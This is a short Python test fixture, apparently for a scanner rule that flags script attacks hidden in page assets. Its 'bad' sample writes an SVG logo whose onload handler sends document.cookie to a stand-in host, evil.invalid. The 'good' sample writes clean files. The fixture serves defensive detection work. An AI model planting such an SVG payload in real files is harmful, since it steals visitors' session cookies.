"""Samples of `page-script-attack`."""

from __future__ import annotations

from pathlib import Path

EXPECT = {"what": "handler", "severity": "high", "line": 1}


def bad(folder: Path) -> str:
    script = "fetch('//evil.invalid/?' + document.cookie)"
    (folder / "logo.svg").write_text(
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{script}"><rect/></svg>\n'
    )
    return "logo.svg"


def good(folder: Path) -> None:
    (folder / "logo.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg"><rect/></svg>\n')
    (folder / "page.html").write_text(
        "<!doctype html><html><body><script>let a = document.cookie</script></body></html>"
    )
